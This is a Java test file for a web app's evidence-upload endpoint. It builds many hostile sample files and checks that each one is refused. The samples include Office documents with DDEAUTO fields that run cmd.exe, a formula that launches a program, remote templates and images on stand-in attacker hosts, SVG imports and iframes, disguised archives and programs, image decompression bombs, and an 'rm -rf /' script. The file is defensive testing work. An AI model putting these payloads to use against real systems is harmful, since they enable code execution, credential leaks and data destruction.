package org.clearancedesk.web;

import static java.nio.ByteOrder.LITTLE_ENDIAN;
import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;
import static org.clearancedesk.web.OfficeFile.word;
import static org.clearancedesk.web.SampleFile.joined;
import static org.clearancedesk.web.SampleFile.number;
import static org.clearancedesk.web.SampleFile.text;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Office documents that fetch something or bring a program, and files of every kind that are more than they seem. */
@RunningDesk
class HandingInFilesThatReachOutTest {

    private static final byte[] PROGRAM = joined(text("MZ"), new byte[510]);
    private static final byte[] PNG_HEAD = HexFormat.of().parseHex("89504e470d0a1a0a");
    private static final byte[] CONTAINER = HexFormat.of().parseHex("d0cf11e0a1b11ae1" + "00".repeat(504));

    private final Floor floor;

    HandingInFilesThatReachOutTest(Floor floor) {
        this.floor = floor;
    }

    static Stream<Arguments> documents() {
        return Stream.of(
                arguments("a picture on a file server", related("image", "\\\\192.0.2.1\\share\\x.png")),
                arguments("a picture on a web server", related("image", "http://evil.example/x.png")),
                arguments("a video on a web server", related("video", "https://evil.example/x.mp4")),
                arguments("a font on a web server", related("font", "https://evil.example/x.ttf")),
                arguments("a relation of no known kind", related("whatever", "https://evil.example/x")),
                arguments("a list to merge with", related("mailMergeSource", "file:///c:/x.csv")),
                arguments(
                        "a picture elsewhere that calls itself internal",
                        OfficeFile.text()
                                .related("image", "http://evil.example/x.png", false)
                                .bytes()),
                arguments(
                        "a picture that calls its address a link to click",
                        OfficeFile.text()
                                .related("hyperlink", "http://evil.example/x.png", true)
                                .with("word/document.xml", word("document", "<a:blip r:link=\"r1\"/>"))
                                .bytes()),
                arguments(
                        "a drawing of the old kind with a picture elsewhere",
                        withText("<v:imagedata src=\"http://evil.example/x.png\"/>")),
                arguments(
                        "a piece of another format",
                        OfficeFile.text()
                                .related("aFChunk", "chunk.html", false)
                                .with("word/chunk.html", "text/html", text("<p>x</p>"))
                                .bytes()),
                arguments(
                        "mail merge",
                        OfficeFile.text()
                                .with("word/settings.xml", word("settings", "<w:mailMerge/>"))
                                .bytes()),
                arguments(
                        "a link to another workbook",
                        OfficeFile.sheet()
                                .with(
                                        "xl/externalLinks/externalLink1.xml",
                                        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
                                        text("<externalLink/>"))
                                .bytes()),
                arguments(
                        "a formula that asks a web server",
                        OfficeFile.sheet()
                                .with("xl/sheet1.xml", "<c><f>_xlfn.WEBSERVICE(\"http://evil.example\")</f></c>")
                                .bytes()),
                arguments("a field that starts a program", withText(field("DDEAUTO c:\\\\windows\\\\cmd.exe"))),
                arguments("a field that asks a program", withText(field(" dde excel x y "))),
                arguments(
                        "a field in pieces that starts a program",
                        withText("<w:fldChar w:fldCharType=\"begin\"/><w:instrText>DDE</w:instrText>"
                                + "<w:instrText>AUTO x</w:instrText><w:fldChar w:fldCharType=\"end\"/>")),
                arguments(
                        "a field whose name another field makes",
                        withText("<w:fldChar w:fldCharType=\"begin\"/>" + field("QUOTE 68 68 69")
                                + "<w:instrText> x</w:instrText><w:fldChar w:fldCharType=\"end\"/>")),
                arguments(
                        "a field behind more blanks than anybody reads",
                        withText(field(" ".repeat(5_000) + "DDEAUTO x y"))),
                arguments(
                        "a field behind many runs of blanks",
                        withText("<w:fldChar w:fldCharType=\"begin\"/>"
                                + "<w:instrText>\n</w:instrText>".repeat(4_100)
                                + "<w:instrText>DDEAUTO x y</w:instrText><w:fldChar w:fldCharType=\"end\"/>")),
                arguments(
                        "a field behind an unusual blank",
                        withText(field("\u00A0\u200BINCLUDEPICTURE \"http://evil.example/x.png\""))),
                arguments(
                        "a field with an element in its name",
                        withText("<w:fldChar w:fldCharType=\"begin\"/><w:instrText>DDE<w:t>AUTO</w:t> x y</w:instrText>"
                                + "<w:fldChar w:fldCharType=\"end\"/>")),
                arguments(
                        "a picture whose address is disguised",
                        OfficeFile.text()
                                .related("image", "%68ttp://evil.example/x.png", false)
                                .bytes()),
                arguments(
                        "a picture on a drive",
                        OfficeFile.text().related("image", "/\\e\\x.png", false).bytes()),
                arguments("a link to a program", related("hyperlink", "file://evil/x.exe")),
                arguments("a link to a tool of Windows", related("hyperlink", "ms-msdt:/id")),
                arguments(
                        "a shape that starts a program", withText("<a:hlinkMouseOver action=\"ppaction://program\"/>")),
                arguments(
                        "a formula that reads a file server",
                        OfficeFile.sheet()
                                .with("xl/sheet1.xml", "<c><f>'\\\\evil\\share\\[x.xlsx]S'!A1</f></c>")
                                .bytes()),
                arguments(
                        "a formula that starts a program",
                        OfficeFile.sheet()
                                .with("xl/sheet1.xml", "<c><f>cmd|'/C calc'!A0</f></c>")
                                .bytes()),
                arguments("a short field that starts a program", withText("<w:fldSimple w:instr=\"DDEAUTO x y\"/>")),
                arguments(
                        "a field that fetches a picture",
                        withText(field("INCLUDEPICTURE \"http://evil.example/x.png\" \\d"))),
                arguments(
                        "a program in a package",
                        OfficeFile.text()
                                .with(
                                        "word/embeddings/oleObject1.bin",
                                        "application/vnd.openxmlformats-officedocument.oleObject",
                                        joined(CONTAINER, text("\1Ole10Native"), PROGRAM))
                                .bytes()),
                arguments("a script", withPart("word/media/x.js", "image/png", text("alert(1)"))),
                arguments("a page with rights", withPart("word/media/x.hta", "text/html", text("<script>"))),
                arguments(
                        "a link of Windows",
                        withPart(
                                "word/media/x.lnk",
                                "image/png",
                                HexFormat.of().parseHex("4c0000000114020000000000c000000000000046"))),
                arguments(
                        "a link of Windows that is called a picture",
                        withPart(
                                "word/media/x.png",
                                "image/png",
                                HexFormat.of().parseHex("4c0000000114020000000000c000000000000046"))),
                arguments("an archive (7z)", packed("377abcaf271c0004")),
                arguments("an archive (rar)", packed("526172211a0701005555")),
                arguments("an archive (gz)", packed("1f8b0800000000000003")),
                arguments(
                        "an archive (zip) behind a picture",
                        withPart(
                                "word/media/x.png",
                                "image/png",
                                joined(text("\u0089PNG"), OfficeFile.text().bytes()))),
                arguments("a template on a file server", related("attachedTemplate", "file://evil/share/x.dotm")),
                arguments("a template on a server with back slashes", related("attachedTemplate", "\\\\evil\\x.dotm")),
                arguments(
                        "a template on a server with four slashes",
                        related("attachedTemplate", "file:////evil/x.dotm")),
                arguments(
                        "a template on a server behind the computer's own",
                        related("attachedTemplate", "file:///C:\\a\\\\evil\\x")),
                arguments(
                        "a template on a server in other letters",
                        related("attachedTemplate", "file:///%5C%5Cevil/x.dotm")),
                arguments("a template on a server of Windows", related("attachedTemplate", "/??/UNC/evil/x.dotm")),
                arguments("a script that is called a picture", picture(text("#!/bin/sh\nrm -rf /\n"))),
                arguments("a page that is called a picture", picture(text("<script>alert(1)</script>"))),
                arguments("a program behind a picture's head", picture(joined(PNG_HEAD, PROGRAM))),
                arguments("a program behind a whole picture", picture(joined(png(), PROGRAM))),
                arguments("a picture with half of its pixels", picture(Arrays.copyOf(png(), png().length - 20))),
                arguments("nothing that sounds", withPart("word/media/x.mp3", "audio/mpeg", PROGRAM)),
                arguments("a drawing that imports", drawing("<style>@import 'http://evil.example/x.css';</style>")),
                arguments(
                        "a drawing that imports in disguise",
                        drawing("<style>@\\69mport 'http://evil.example/x';</style>")),
                arguments("a drawing with a page in it", drawing("<iframe src=\"http://evil.example\"/>")),
                arguments("a drawing with foreign objects", drawing("<foreignObject><p/></foreignObject>")),
                arguments("a drawing with an object of a page", drawing("<p xmlns=\"http://www.w3.org/1999/xhtml\"/>")),
                arguments("a drawing with a picture elsewhere", drawing("<image href=\"http://evil.example/x.png\"/>")),
                arguments("a drawing with a shape elsewhere", drawing("<use href=\"x.svg#a\"/>")),
                arguments(
                        "a drawing with a colour elsewhere",
                        drawing("<path style=\"fill:url( 'http://evil.example/x#a')\"/>")),
                arguments(
                        "a drawing with a set of pictures",
                        drawing("<style>a{b:image-set('http://evil.example/x' 1x)}</style>")),
                arguments(
                        "a drawing that changes by itself",
                        drawing("<set attributeName=\"href\" to=\"http://evil.example\"/>")),
                arguments("a drawing that runs", drawing("<path onfocusin=\"alert(1)\"/>")),
                arguments(
                        "a drawing with a style elsewhere",
                        withPart(
                                "word/media/x.svg",
                                "image/svg+xml",
                                text(
                                        "<?xml-stylesheet href=\"http://evil.example/x.css\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>"))),
                arguments(
                        "a drawing that is called plain",
                        withPart("word/media/x.svg", "application/xml", text("<svg><iframe/></svg>"))),
                arguments("a field that nobody knows", withText(field("FETCHIT \"http://evil.example\""))),
                arguments("a field that leads to a program", withText(field("HYPERLINK \"file://evil/x.exe\""))),
                arguments("a formula that translates elsewhere", formula("_xlfn.TRANSLATE(A1)")),
                arguments("a formula of another program", formula("_xll.FETCH(A1)")),
                arguments("a formula between two sheets with marks", formula("'a\"'!A1+WEBSERVICE('b\"'!A1)")),
                arguments("a formula between two columns with marks", formula("SUM(T['[])+WEBSERVICE(T['[])")),
                arguments(
                        "a formula of a column",
                        OfficeFile.sheet()
                                .with(
                                        "xl/t.xml",
                                        "<t><calculatedColumnFormula>COPILOT(A1)</calculatedColumnFormula></t>")
                                .bytes()),
                arguments("connections of a type that says nothing", ofPlainXml("connections")),
                arguments("an extension of a type that says nothing", ofPlainXml("webextension")),
                arguments("macros of a type that says nothing", ofPlainXml("vbaProject")),
                arguments("a template of a type that says nothing", ofPlainXml("attachedTemplate")),
                arguments("an object of a type that says nothing", ofPlainXml("oleObject")),
                arguments("another book of a type that says nothing", ofPlainXml("externalLink")),
                arguments(
                        "a workbook whose table counts a sheet of a file server",
                        OfficeFile.sheet()
                                .with(
                                        "xl/pivotCache/p1.xml",
                                        "<pivotCacheDefinition><cacheSource type=\"worksheet\"><worksheetSource ref=\"A1:B2\""
                                                + " sheet=\"\\\\evil\\share\\[a.xlsx]S\"/></cacheSource></pivotCacheDefinition>")
                                .bytes()),
                arguments("a formula that leads to a program", formula("HYPERLINK(\"file://evil/x.exe\",\"x\")")),
                arguments("a formula that leads to a file server", formula("HYPERLINK( \"\\\\evil\\x.exe\")")),
                arguments(
                        "a formula that leads to a program in a roundabout way",
                        formula("HYPERLINK(IF(A1,\"file://evil/x.exe\",\"\"))")),
                arguments(
                        "a drawing of the old kind that leads to a program",
                        withText("<v:rect href=\"file://evil/x.exe\"/>")),
                arguments(
                        "a part that nobody names",
                        OfficeFile.text().with("word/x.dat", "x").bytes()));
    }

    @ParameterizedTest(name = "with {0}")
    @MethodSource("documents")
    void anOfficeDocumentIsRefused(String with, byte[] content) {
        isRefused(with.contains("workbook") || with.contains("formula") ? "Sheet.xlsx" : "Agreement.docx", content);
    }

    static Stream<Arguments> more() throws IOException {
        byte[] archive = OfficeFile.text().bytes();
        byte[] jpeg = SampleFile.picture("jpg");
        return Stream.of(
                arguments("both.pdf", joined(SampleFile.pdf(), archive, text("!"))),
                arguments("both.pdf", joined(SampleFile.pdf(), archive, SampleFile.pdf())),
                arguments("both.docx", joined(archive, archive)),
                arguments("both.docx", joined(archive, PROGRAM)),
                arguments("both.mp4", joined(SampleFile.movie("isom"), archive, text("!"))),
                arguments(
                        "both.png",
                        joined(SampleFile.picture("png"), HexFormat.of().parseHex("526172211a0700"))),
                arguments("vast.tif", tiff(4_000_000_000L, 4_000_000_000L)),
                arguments("vast-on-the-second-page.tif", secondPage(60_000, 60_000)),
                arguments("vast-of-the-large-kind.tif", largeTiff(60_000, 60_000)),
                arguments("of-two-sizes.tif", tiffOfTwoSizes()),
                arguments("without-pixels.tif", tiff(8, 4)),
                arguments("vast-frame.gif", gifWithFrame(65_535, 65_535)),
                arguments("vast.jpg", joined(HexFormat.of().parseHex("ffd8ff01"), frame(65_500, 65_500))),
                arguments("vast.jpg", joined(HexFormat.of().parseHex("ffd8ffe0000400000000"), frame(65_500, 65_500))),
                arguments("head-alone.jpg", joined(HexFormat.of().parseHex("ffd8"), frame(8, 4))),
                arguments(
                        "head-and-scan-alone.jpg",
                        joined(cut(jpeg), HexFormat.of().parseHex("ffd9"))),
                arguments("half.png", Arrays.copyOf(png(), png().length - 20)),
                arguments("script.png", joined(PNG_HEAD, text("#!/bin/sh\nrm -rf /\n"))),
                arguments("frameless.webp", webp(8, 4)),
                arguments("stub.pdf", text("%PDF-1.7")),
                arguments("lined.pdf", text("%PDF-1.7\n%%EOF\n")),
                arguments("locked-on-the-spot.pdf", lockedOnTheSpot("/Encrypt")),
                arguments("locked-in-other-letters.pdf", lockedOnTheSpot("/#45ncr#79pt%now\n")),
                arguments("locked-elsewhere-in-other-letters.pdf", renamedLock()),
                arguments("no-frame.jpg", HexFormat.of().parseHex("ffd8ffe000040000ffd9")),
                arguments("vast.webp", webp(16_000_000, 60)),
                arguments("vast.heic", SampleFile.heic(60_000, 60_000)),
                arguments("cut.jpg", Arrays.copyOf(jpeg, 12)),
                arguments("program.mp3", joined(SampleFile.tag(20), PROGRAM)),
                arguments("nothing.mp3", SampleFile.tag(20)),
                arguments("program.mp4", joined(SampleFile.box("ftyp", text("isom\0\0\2\0isom")), PROGRAM)),
                arguments("program.wav", joined(text("RIFF\0\2\0\0WAVE"), PROGRAM)),
                arguments("program.aif", joined(text("FORM"), number(512), text("AIFF"), PROGRAM)),
                arguments("empty-frame.webp", riff(20 - 8, "WEBP", "VP8 ", 0)),
                arguments("empty-frame-of-a-wrong-length.webp", riff(1_000, "WEBP", "VP8 ", 0)),
                arguments("cut.webp", Arrays.copyOf(SampleFile.webp(), 24)),
                arguments("silent.wav", silent()),
                arguments("no-mail.eml", text("Only a note.")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("more")
    void aFileThatIsMoreOrLessThanItSeemsIsRefused(String name, byte[] content) {
        isRefused(name, content);
    }

    private void isRefused(String name, byte[] content) {
        Map<String, Long> before = floor.rows();

        Answer refused =
                floor.as("requester").upload("/api/evidence", name, content).expectProblemAt(422, "file");

        assertThat(refused.json().get("detail").asText()).contains(name);
        assertThat(floor.rows()).isEqualTo(before);
    }

    /** A relation to a part that is declared as nothing but XML. */
    private static byte[] ofPlainXml(String relation) {
        return OfficeFile.text()
                .related(relation, "part.xml", false)
                .with("word/part.xml", "<part/>")
                .bytes();
    }

    private static byte[] riff(int length, String form, String chunk, int chunkLength) {
        ByteBuffer lengths =
                ByteBuffer.allocate(8).order(LITTLE_ENDIAN).putInt(length).putInt(chunkLength);
        return joined(
                text("RIFF"),
                Arrays.copyOf(lengths.array(), 4),
                text(form + chunk),
                Arrays.copyOfRange(lengths.array(), 4, 8));
    }

    /** As a sound of no length at all. */
    private static byte[] silent() {
        byte[] format = {16, 0, 0, 0, 1, 0, 1, 0, 0x40, 0x1f, 0, 0, (byte) 0x80, 0x3e, 0, 0, 2, 0, 16, 0};
        return joined(text("RIFF"), new byte[] {36, 0, 0, 0}, text("WAVEfmt "), format, text("data"), new byte[4]);
    }

    private static byte[] related(String type, String target) {
        return OfficeFile.text().related(type, target, true).bytes();
    }

    private static byte[] withText(String content) {
        return OfficeFile.text()
                .with("word/document.xml", word("document", content))
                .bytes();
    }

    private static byte[] withPart(String name, String type, byte[] content) {
        return OfficeFile.text().with(name, type, content).bytes();
    }

    private static byte[] picture(byte[] content) {
        return withPart("word/media/x.png", "image/png", content);
    }

    private static byte[] drawing(String content) {
        return withPart(
                "word/media/x.svg",
                "image/svg+xml",
                text("<svg xmlns=\"http://www.w3.org/2000/svg\">" + content + "</svg>"));
    }

    private static byte[] formula(String formula) {
        return OfficeFile.sheet()
                .with("xl/sheet1.xml", "<c><f>" + formula + "</f></c>")
                .bytes();
    }

    private static byte[] png() {
        try {
            return SampleFile.picture("png");
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Up to where the pixels would begin. */
    private static byte[] cut(byte[] jpeg) {
        int scan = HexFormat.of().formatHex(jpeg).indexOf("ffda") / 2;
        return Arrays.copyOf(jpeg, scan + 2 + ByteBuffer.wrap(jpeg).getShort(scan + 2));
    }

    /** With what locks it where others name the place. */
    private static byte[] lockedOnTheSpot(String name) throws IOException {
        String locked = new String(SampleFile.lockedPdf("open", 128), ISO_8859_1);
        Matcher lock = Pattern.compile("/Encrypt (\\d+) 0 R").matcher(locked);
        lock.find();
        int object = locked.indexOf("\n" + lock.group(1) + " 0 obj");
        String dictionary = locked.substring(locked.indexOf("<<", object), locked.indexOf("endobj", object));
        return locked.replace(lock.group(), name + dictionary).getBytes(ISO_8859_1);
    }

    private static byte[] renamedLock() throws IOException {
        return new String(SampleFile.lockedPdf("open", 128), ISO_8859_1)
                .replace("/Encrypt ", "/Encr#79pt%\n")
                .getBytes(ISO_8859_1);
    }

    private static byte[] largeTiff(long width, long height) {
        return joined(
                HexFormat.of()
                        .parseHex("4d4d002b000800000000000000000010" + "0000000000000003" + "010000100000000000000001"),
                ByteBuffer.allocate(8).putLong(width).array(),
                HexFormat.of().parseHex("010100100000000000000001"),
                ByteBuffer.allocate(8).putLong(height).array(),
                HexFormat.of().parseHex("011100100000000000000001" + "0000000000000010" + "0000000000000000"));
    }

    private static byte[] tiffOfTwoSizes() {
        return joined(
                HexFormat.of().parseHex("4d4d002a00000008" + "0004" + "010000040000000100000001"),
                HexFormat.of().parseHex("010000040000000100000008" + "010100040000000100000004"),
                HexFormat.of().parseHex("011100040000000100000008" + "00000000"));
    }

    private static byte[] packed(String start) {
        return withPart("word/media/x.png", "image/png", HexFormat.of().parseHex(start));
    }

    private static String field(String instruction) {
        return "<w:fldChar w:fldCharType=\"begin\"/><w:instrText>%s</w:instrText><w:fldChar w:fldCharType=\"end\"/>"
                .formatted(instruction);
    }

    private static byte[] tiff(long width, long height) {
        return joined(
                HexFormat.of().parseHex("4d4d002a00000008"),
                directory(HexFormat.of().parseHex("00040000000100000000"), width, height, 0));
    }

    private static byte[] secondPage(int width, int height) {
        return joined(
                HexFormat.of().parseHex("4d4d002a00000008"),
                directory(new byte[0], 1, 1, 38),
                directory(new byte[0], width, height, 0));
    }

    private static byte[] directory(byte[] unused, long width, long height, int next) {
        return joined(
                HexFormat.of().parseHex("0002"),
                HexFormat.of().parseHex("0100000400000001"),
                number((int) width),
                HexFormat.of().parseHex("0101000400000001"),
                number((int) height),
                number(next));
    }

    private static byte[] gifWithFrame(int width, int height) {
        byte[] gif =
                HexFormat.of().parseHex("47494638396101000100f00000ffffff0000002c0000000001000100000202440100" + "3b");
        int frame = 19;
        gif[frame + 5] = (byte) width;
        gif[frame + 6] = (byte) (width >> 8);
        gif[frame + 7] = (byte) height;
        gif[frame + 8] = (byte) (height >> 8);
        return gif;
    }

    private static byte[] frame(int width, int height) {
        byte[] frame = HexFormat.of().parseHex("ffc20011080000000003012200021101031101");
        ByteBuffer.wrap(frame).putShort(5, (short) height).putShort(7, (short) width);
        return joined(frame, HexFormat.of().parseHex("ffd9"));
    }

    private static byte[] webp(int width, int height) {
        byte[] canvas = HexFormat.of().parseHex("00000000" + "000000000000");
        ByteBuffer.wrap(canvas)
                .put(4, (byte) (width - 1))
                .put(5, (byte) ((width - 1) >> 8))
                .put(6, (byte) ((width - 1) >> 16))
                .put(7, (byte) (height - 1));
        byte[] chunk = joined(text("VP8X\n\0\0\0"), canvas);
        return joined(text("RIFF"), new byte[] {(byte) (chunk.length + 4), 0, 0, 0}, text("WEBP"), chunk);
    }
}
